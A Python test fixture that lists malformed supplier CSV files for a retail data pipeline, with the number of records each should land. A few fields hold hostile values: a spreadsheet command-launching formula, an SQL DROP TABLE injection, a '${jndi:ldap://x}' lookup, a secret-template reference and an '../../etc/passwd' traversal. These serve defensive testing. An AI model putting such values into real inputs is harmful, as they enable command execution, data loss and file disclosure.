"""Everything a supplier may do wrong, each in a file of its own, and how many records the file holds."""

from __future__ import annotations

import gzip
from dataclasses import dataclass

from tests.glue_jobs.days import HEADER, OTHER_SALE, SALE, csv_bytes, sale
from tests.glue_jobs.file_cases import FILE_CASES
from tests.glue_jobs.row_cases import ROW_CASES


@dataclass(frozen=True)
class BadInput:
    """A delivered file with something wrong in it.

    :param content: its bytes
    :param landed: records that count, or 0 for a file that is refused as a whole or holds none
    """

    content: bytes
    landed: int


# Beside the cases of files and lines, whose states and reasons have their own tests.
_MORE = {
    "NUL bytes in a field": BadInput(csv_bytes(sale(Description="A\x00B")), 1),
    "control characters": BadInput(csv_bytes(sale(Description="\x01\x02\x1b[31mRED")), 1),
    "the replacement character": BadInput(csv_bytes(sale(Country="Fran\ufffde")), 1),
    "emoji in a code": BadInput(csv_bytes(sale(StockCode="85123\U0001f384")), 1),
    "text written from right to left": BadInput(csv_bytes(sale(Description="\u202etfel")), 1),
    "a formula for spreadsheets": BadInput(csv_bytes(sale(Description="=cmd|' /C calc'!A0")), 1),
    "SQL in a field": BadInput(csv_bytes(sale(Country="France'; DROP TABLE curated.online_retail; --")), 1),
    "a template in a field": BadInput(csv_bytes(sale(Description="{{ var.value.secret }} ${jndi:ldap://x}")), 1),
    "a path in a field": BadInput(csv_bytes(sale(StockCode="../../etc/passwd")), 1),
    "the header again in the middle": BadInput(csv_bytes(SALE, HEADER, OTHER_SALE), 3),
    "a total at the end": BadInput(csv_bytes(SALE, "TOTAL,,,6,,15.30,,"), 2),
    "a comment line": BadInput(csv_bytes("# exported by the shop", SALE), 2),
    "separators only": BadInput(csv_bytes(SALE, ",,,,,,,"), 2),
    "a comma at the end of each line": BadInput(csv_bytes(f"{SALE},", f"{OTHER_SALE},"), 2),
    "the same bad line twice": BadInput(csv_bytes(sale(Quantity="0"), sale(Quantity="0")), 2),
    "a decimal comma": BadInput(csv_bytes(sale(UnitPrice='"2,55"')), 1),
    "a currency sign": BadInput(csv_bytes(sale(UnitPrice="\u00a32.55")), 1),
    "a blank within a number": BadInput(csv_bytes(sale(Quantity="1 000")), 1),
    "a hexadecimal number": BadInput(csv_bytes(sale(Quantity="0x10")), 1),
    "an infinite price": BadInput(csv_bytes(sale(UnitPrice="Infinity")), 1),
    "digits of another script": BadInput(csv_bytes(sale(Quantity="\u0666")), 1),
    "minus zero": BadInput(csv_bytes(sale(Quantity="-0")), 1),
    "a year before the calendar": BadInput(csv_bytes(sale(InvoiceDate="0001-01-01 00:00:00")), 1),
    "a year with five digits": BadInput(csv_bytes(sale(InvoiceDate="20100-12-01 08:26:00")), 1),
    "a time with a zone": BadInput(csv_bytes(sale(InvoiceDate="2010-12-01T08:26:00+02:00")), 1),
    "the 61st second": BadInput(csv_bytes(sale(InvoiceDate="2010-12-01 08:26:61")), 1),
    "the word NULL": BadInput(csv_bytes(sale(Quantity="NULL")), 1),
    "text after the gzip": BadInput(gzip.compress(csv_bytes(SALE)) + b"not gzip", 0),
    "a zip archive": BadInput(b"PK\x03\x04" + bytes(range(200)), 0),
    "a web page": BadInput(b"<!DOCTYPE html><html><body>503 Service Unavailable</body></html>\n", 0),
    "an error of S3": BadInput(b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>\n', 0),
    "JSON lines": BadInput(b'{"InvoiceNo": "536365", "Quantity": 6}\n', 0),
}
_RIGHT = ("as agreed", "a sale")

BAD_INPUT: dict[str, BadInput] = {
    **{f"file: {name}": BadInput(case.content, case.landed) for name, case in FILE_CASES.items() if name not in _RIGHT},
    **{f"line: {name}": BadInput(csv_bytes(line), 1) for name, (line, reasons) in ROW_CASES.items() if reasons},
    **_MORE,
}
